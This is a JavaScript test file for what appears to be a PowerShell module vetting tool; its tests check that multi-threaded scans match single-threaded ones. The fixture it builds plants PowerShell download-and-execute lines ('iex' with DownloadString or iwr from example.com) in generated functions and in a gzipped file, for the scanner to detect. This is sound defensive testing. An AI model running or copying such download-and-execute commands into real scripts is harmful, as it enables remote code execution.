import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { gzipSync } from 'node:zlib'
import { find } from '../src/find/find.js'
import { renderJson } from '../src/report/json.js'
import { openThreads, readModule } from '../src/threads.js'
import { vet } from '../src/vet.js'

const WORKER = new URL('../dist/worker.js', import.meta.url)
const NOW = new Date('2026-01-01T00:00:00Z')
const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'modvet-threads-'))

/** A module of 4 MB, which is dealt into several shares: most functions do nothing of note, some do. */
beforeAll(() => {
  const module = path.join(folder, 'Large')
  const dull = Array.from({ length: 400 }, (_, i) => `    $row${i} = $Rows | Where-Object { $_.Number -eq ${i} }\n`).join('')
  fs.mkdirSync(path.join(module, 'Public'), { recursive: true })
  for (let i = 0; i < 160; i++) {
    const act = i % 40 === 0 ? `    iex (New-Object Net.WebClient).DownloadString('https://example.com/${i}.ps1')\n` : ''
    fs.writeFileSync(path.join(module, 'Public', `Get-Row${i}.ps1`), `function Get-Row${i} {\n    param($Rows)\n${dull}${act}    Get-Row${(i + 1) % 160} $Rows\n}\n`)
  }
  for (const lib of ['net462', 'net8.0']) {
    fs.mkdirSync(path.join(module, 'lib', lib), { recursive: true })
    fs.copyFileSync(path.join(import.meta.dirname, 'fixtures/binaries/Behaviors.dll'), path.join(module, 'lib', lib, 'Behaviors.dll'))
  }
  fs.writeFileSync(path.join(module, 'inner.ps1.gz'), gzipSync("iex (iwr 'https://example.com/in-archive.ps1')\n"))
  fs.symlinkSync('Large.psm1', path.join(module, 'linked.psm1'))
  fs.writeFileSync(path.join(module, 'Large.psm1'), 'foreach ($file in Get-ChildItem $PSScriptRoot\\Public\\*.ps1) { . $file.FullName }\nsal rows Get-Row7\nrows\n')
  fs.writeFileSync(path.join(module, 'Large.psd1'), "@{ RootModule = 'Large.psm1'; ModuleVersion = '1.0.0'; GUID = '2f6c1f1c-6f0e-4a44-9d0b-0d8f2b1c6f11'; FunctionsToExport = 'Get-Row0' }\n")
})

afterAll(() => fs.rmSync(folder, { recursive: true }))

test('several threads give the report of one', async () => {
  const alone = renderJson(await vet([folder], { now: NOW }))
  const together = renderJson(await vet([folder], { now: NOW, worker: WORKER }))
  expect(together).toBe(alone)
  expect(alone).toContain('https://example.com/120.ps1')
  expect(alone).toContain('Get-Row120')
  for (const place of ['https://example.com/in-archive.ps1', 'lib/net462/Behaviors.dll', 'lib/net8.0/Behaviors.dll']) expect(alone).toContain(place)
}, 60_000)

test('nothing of a file is kept in memory that the next one takes over', async () => {
  const binaries = path.join(import.meta.dirname, 'fixtures/binaries')
  const [reused] = await find([binaries])
  const [apart] = await find([binaries], { readFile: file => fs.readFileSync(file) })
  const all = () => true
  const readings = [await readModule(reused!, all), await readModule(apart!, all)].map(({ facts, graphs }) => ({ facts, graphs }))
  expect(readings[0]!.facts.length).toBeGreaterThan(500)
  expect(readings[0]).toEqual(readings[1])
}, 60_000)

test('a worker that cannot start is an error, not a report with half of the module', async () => {
  await expect(vet([folder], { worker: new URL('file:///no/such/worker.js') })).rejects.toThrow(/worker/)
}, 60_000)

test('no thread starts for small modules', async () => {
  const threads = openThreads(new URL('file:///no/such/worker.js'), [])
  await threads.close()
  await expect(vet([path.join(import.meta.dirname, 'fixtures/modules/WebFarm')], { worker: new URL('file:///no/such/worker.js') })).resolves.toBeDefined()
})
